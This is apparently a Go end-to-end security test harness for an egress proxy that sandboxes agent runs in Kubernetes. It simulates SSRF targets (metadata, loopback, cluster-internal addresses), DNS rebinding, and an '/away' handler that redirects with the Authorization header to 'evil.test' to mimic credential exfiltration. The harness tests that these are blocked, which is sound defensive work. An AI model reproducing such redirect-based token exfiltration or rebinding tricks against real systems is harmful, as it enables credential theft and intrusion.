// SPDX-License-Identifier: Apache-2.0

//go:build e2e && security

package e2e_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/rand"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"motorcortex.dev/motorcortex/api/v1alpha1"
	"motorcortex.dev/motorcortex/test/internet"
)

const (
	clusterNamespace = "motorcortex-devcluster"
	caConfigMap      = "security-tests-ca"
)

var (
	nodeAddress      = netip.MustParseAddr("172.30.0.1")
	proxyDeployment  = types.NamespacedName{Namespace: managerNamespace, Name: "motorcortex-egressproxy"}
	proxyLabels      = client.MatchingLabels{"app.kubernetes.io/name": "motorcortex", "app.kubernetes.io/component": "egressproxy"}
	allowedHost      = netip.MustParseAddr("45.45.45.10")
	credentialHost   = netip.MustParseAddr("45.45.45.11")
	wildcardHost     = netip.MustParseAddr("45.45.45.12")
	mailHost         = netip.MustParseAddr("45.45.45.13")
	packageHost      = netip.MustParseAddr("45.45.45.14")
	evilHost         = netip.MustParseAddr("45.45.45.66")
	forbiddenAnswers = map[string]internet.Answer{
		"internal.test": {Addresses: []netip.Addr{netip.MustParseAddr("10.96.0.1")}},
		"metadata.test": {Addresses: []netip.Addr{internet.Metadata}},
		"loopback.test": {Addresses: []netip.Addr{netip.MustParseAddr("127.0.0.1")}},
		"node.test":     {Addresses: []netip.Addr{nodeAddress}},
		"mixed.test":    {Addresses: []netip.Addr{allowedHost, netip.MustParseAddr("10.96.0.1")}},
		"alias.test":    {Alias: "kubernetes.default.svc.cluster.local", Addresses: []netip.Addr{netip.MustParseAddr("10.96.0.1")}},
		"six.test":      {Addresses: []netip.Addr{netip.MustParseAddr("fd00::1")}},
	}
)

// world is what all security tests share.
var world struct {
	net *internet.Internet
	// value is the credential that no sandbox may see. It never changes; tests that change one have their own.
	value string

	mu sync.Mutex
	// values are all that must be nowhere.
	values []string
	// proxies are the addresses of all Pods of the proxy that there were.
	proxies map[netip.Addr]bool
	// received are the requests that came to api.test.
	received []received

	// busy says that the path /busy was asked for, which has no answer the first time.
	busy atomic.Bool
}

// received is a request as a host got it.
type received struct {
	host, path string
	header     http.Header
	body       string
}

// startWorld joins the stand-in Internet to the cluster, and has the proxy use its DNS server and believe its certificates.
func startWorld(ctx context.Context) error {
	net, err := internet.Start(ctx, clusterNamespace, nodeAddress)
	if err != nil {
		return err
	}
	world.net, world.proxies = net, map[netip.Addr]bool{}
	world.value = newValue()
	for name, a := range forbiddenAnswers {
		net.Names.Set(name, a)
	}
	net.Names.Set("rebind.test", internet.Answer{Addresses: []netip.Addr{allowedHost}}, internet.Answer{Addresses: []netip.Addr{netip.MustParseAddr("10.96.0.1")}})
	for _, h := range []struct {
		name string
		at   netip.Addr
	}{{"allowed.test", allowedHost}, {"api.test", credentialHost}, {"sub.wild.test", wildcardHost}, {"evil.test", evilHost}} {
		if err := net.HTTPS(ctx, h.name, h.at, host(h.name)); err != nil {
			return err
		}
		if err := net.HTTP(ctx, netip.AddrPortFrom(h.at, 80), host(h.name)); err != nil {
			return err
		}
	}
	if err := errors.Join(
		net.HTTP(ctx, netip.AddrPortFrom(internet.Metadata, 80), host("metadata")),
		net.HTTPS(ctx, "api.agentmail.test", mailHost, mailAPI(world.value)), net.HTTPS(ctx, "packages.test", packageHost, packages()),
	); err != nil {
		return err
	}
	net.Names.Set("evil-allowed.test", internet.Answer{Addresses: []netip.Addr{evilHost}})
	net.Names.Set("wild.test", internet.Answer{Addresses: []netip.Addr{evilHost}})
	return configureProxy(ctx)
}

func stopWorld(ctx context.Context) error {
	if world.net == nil {
		return nil
	}
	ctx, cancel := context.WithTimeout(ctx, 2*soon)
	defer cancel()
	err := patchProxy(ctx, `{"spec":{"template":{"spec":{"volumes":null,"containers":[{"name":"egressproxy","args":null,"volumeMounts":null}]}}}}`)
	ca := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: managerNamespace, Name: caConfigMap}}
	return errors.Join(err, client.IgnoreNotFound(suite.client.Delete(ctx, ca)), world.net.Close())
}

func configureProxy(ctx context.Context) error {
	ca := &corev1.ConfigMap{
		ObjectMeta: metav1.ObjectMeta{Namespace: managerNamespace, Name: caConfigMap}, Data: map[string]string{"ca.crt": string(world.net.CA())},
	}
	if err := suite.client.Delete(ctx, ca.DeepCopy()); client.IgnoreNotFound(err) != nil {
		return err
	}
	if err := suite.client.Create(ctx, ca); err != nil {
		return err
	}
	if err := patchProxy(ctx, fmt.Sprintf(`{"spec":{"template":{"metadata":{"annotations":{"security-tests":%q}},"spec":{
		"volumes":[{"name":"ca","configMap":{"name":%q}}],
		"containers":[{"name":"egressproxy","args":["--dns-server=%s:53","--upstream-ca-file=/etc/security-tests/ca.crt"],
			"volumeMounts":[{"name":"ca","mountPath":"/etc/security-tests"}]}]}}}}`, suite.id, caConfigMap, internet.DNS)); err != nil {
		return err
	}
	return rememberProxies(ctx)
}

func patchProxy(ctx context.Context, text string) error {
	d := appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: proxyDeployment.Namespace, Name: proxyDeployment.Name}}
	if err := suite.client.Patch(ctx, &d, client.RawPatch(types.StrategicMergePatchType, []byte(text))); err != nil {
		return err
	}
	return deploymentIsAvailable(ctx, proxyDeployment)
}

// rememberProxies notes the addresses of the proxy's Pods, from which alone anything may leave the cluster.
func rememberProxies(ctx context.Context) error {
	var pods corev1.PodList
	if err := suite.client.List(ctx, &pods, client.InNamespace(managerNamespace), proxyLabels); err != nil {
		return err
	}
	world.mu.Lock()
	defer world.mu.Unlock()
	for _, p := range pods.Items {
		if a, err := netip.ParseAddr(p.Status.PodIP); err == nil {
			world.proxies[a] = true
		}
	}
	return nil
}

// host answers every request. /echo repeats it, /stream goes on for two minutes, /away sends the client to another host.
func host(name string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		world.mu.Lock()
		world.received = append(world.received, received{name, r.URL.RequestURI(), r.Header.Clone(), string(body)})
		world.mu.Unlock()
		switch r.URL.Path {
		case "/echo":
			for k, v := range r.Header {
				w.Header()["Echo-"+k] = v
			}
			fmt.Fprintf(w, "%s %s\n%v\n%s", r.Method, r.URL.RequestURI(), r.Header, body)
		case "/stream":
			for i := 0; i < 1200 && r.Context().Err() == nil; i++ {
				fmt.Fprintf(w, "tick %d\n", i)
				w.(http.Flusher).Flush()
				select {
				case <-time.After(100 * time.Millisecond):
				case <-r.Context().Done():
				}
			}
		case "/busy":
			if world.busy.CompareAndSwap(false, true) {
				http.Error(w, "try again in a moment", http.StatusServiceUnavailable)
				return
			}
			fmt.Fprintln(w, "all is well")
		case "/rates":
			if name == "allowed.test" {
				http.Redirect(w, r, "http://sub.wild.test/rates", http.StatusMovedPermanently)
				return
			}
			fmt.Fprintln(w, "EUR 1")
		case "/away":
			http.Redirect(w, r, "https://evil.test/?"+r.Header.Get("Authorization"), http.StatusFound)
		default:
			if text, ok := page(strings.TrimPrefix(r.URL.Path, "/pages/")); ok {
				if strings.HasSuffix(r.URL.Path, ".json") {
					w.Header().Set("Content-Type", "application/json")
				}
				_, _ = io.WriteString(w, text)
				return
			}
			fmt.Fprintf(w, "hello from %s\n", name)
		}
	})
}

// requestsTo returns what a host received.
func requestsTo(name string) []received {
	world.mu.Lock()
	defer world.mu.Unlock()
	var list []received
	for _, r := range world.received {
		if r.host == name {
			list = append(list, r)
		}
	}
	return list
}

// newValue makes a credential's value, which must be nowhere from now on.
func newValue() string {
	v := "sek/" + rand.String(20) + "+" + rand.String(8) + "="
	world.mu.Lock()
	defer world.mu.Unlock()
	world.values = append(world.values, v)
	return v
}

// newSecret makes a Secret with the value in a namespace.
func newSecret(t *testing.T, namespace, name, value string) *corev1.Secret {
	t.Helper()
	s := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name}, StringData: map[string]string{"token": value}}
	must(t, suite.client.Create(t.Context(), s))
	return s
}

func withDomains(domains ...v1alpha1.Domain) func(*v1alpha1.MotorRun) {
	return func(r *v1alpha1.MotorRun) { r.Spec.Domains = domains }
}

// withScript brings a file for bash, and the authority that tunnelled hosts are known by.
func withScript(path, script string) func(*v1alpha1.MotorRun) {
	return func(r *v1alpha1.MotorRun) {
		r.Spec.Files = append(r.Spec.Files, v1alpha1.InputFile{Path: path, Content: new(scriptHead + script)})
		if !slices.ContainsFunc(r.Spec.Files, func(f v1alpha1.InputFile) bool { return f.Path == "ca.pem" }) {
			r.Spec.Files = append(r.Spec.Files, v1alpha1.InputFile{Path: "ca.pem", Content: new(string(world.net.CA()))})
		}
	}
}

// scriptHead has the words of the scripts: tunnel and terminated print "CONNECT-STATUS STATUS" of a request.
const scriptHead = `
tunnel() { curl -sS -m 15 -o body -w '%{http_connect} %{http_code}\n' --cacert ca.pem "$@" 2>error || true; }
terminated() { curl -sS -m 15 -o body -w '%{http_connect} %{http_code}\n' "$@" 2>error || true; }
`

// withCredential gives a run a credential. The slot is as in "Bearer" and "Header X-Token".
func withCredential(name, secret, slot string, hosts ...v1alpha1.Domain) func(*v1alpha1.MotorRun) {
	kind, named, _ := strings.Cut(slot, " ")
	return func(r *v1alpha1.MotorRun) {
		r.Spec.Credentials = append(r.Spec.Credentials, v1alpha1.Credential{
			Name: name, SecretRef: v1alpha1.SecretKeyRef{Name: secret, Key: "token"}, Hosts: hosts,
			Slot: v1alpha1.CredentialSlot{Type: v1alpha1.SlotType(kind), Name: named},
		})
	}
}

// said returns the output of the bash calls of a run, one string for each.
func said(t *testing.T, run *v1alpha1.MotorRun) []string {
	t.Helper()
	list, err := steps(t.Context(), run)
	must(t, err)
	var outputs []string
	for i := range list {
		for j, c := range list[i].Spec.ToolCalls {
			if c.Tool == "bash" && j < len(list[i].Status.Results) {
				outputs = append(outputs, strings.TrimSpace(list[i].Status.Results[j].Output))
			}
		}
	}
	return outputs
}

// wantSaid fails unless the first bash call of the run printed these lines.
func wantSaid(t *testing.T, run *v1alpha1.MotorRun, call int, want ...string) {
	t.Helper()
	outputs := said(t, run)
	if len(outputs) <= call {
		t.Fatalf("there are %d bash calls, want one more", len(outputs))
	}
	if got := strings.Split(outputs[call], "\n"); !slices.Equal(got, want) {
		t.Errorf("call %d said\n%s\nwant\n%s", call, outputs[call], strings.Join(want, "\n"))
	}
}

// isProbe reports whether a packet is one of the tool server's own proof, which it sends until it is blocked.
func isProbe(p internet.Packet) bool {
	return p.To == netip.MustParseAddr("1.1.1.1") && p.Port == 443 || p.To == internet.Metadata && p.Port == 80
}

// mayLeave reports whether the proxy may have sent a packet: a question to its DNS server, or to a host that a test allowed.
func mayLeave(p internet.Packet) bool {
	world.mu.Lock()
	defer world.mu.Unlock()
	if !world.proxies[p.From] {
		return false
	}
	return p.To == internet.DNS && p.Port == 53 || slices.Contains([]netip.Addr{allowedHost, credentialHost, wildcardHost, mailHost, packageHost, mcpHost}, p.To) && (p.Port == 443 || p.Port == 80)
}

// wantNothingElseLeft fails if a packet left the cluster that none may have sent.
func wantNothingElseLeft(t *testing.T) {
	t.Helper()
	must(t, rememberProxies(t.Context()))
	if leaked := world.net.Cable.Heard(func(p internet.Packet) bool { return !mayLeave(p) && !isProbe(p) }); len(leaked) > 0 {
		t.Errorf("left the cluster: %v", leaked)
	}
}
